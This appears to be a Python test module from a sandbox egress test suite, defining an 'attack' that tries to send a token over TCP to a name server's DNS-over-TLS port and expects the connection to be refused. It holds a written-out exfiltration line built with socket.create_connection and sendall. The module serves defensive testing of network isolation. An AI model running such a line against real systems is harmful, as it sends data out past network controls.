"""Bytes go to a name server's encrypted port."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import NAMES


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    return ground.arrives(
        f"s = socket.create_connection(('{NAMES}', 853)); s.sendall(b'{ground.token}'); s.shutdown(1)"
    )


ATTACK = Attack("TCP to the outside", attempt, recorded=("network.refused", f"tcp {NAMES}:853"))
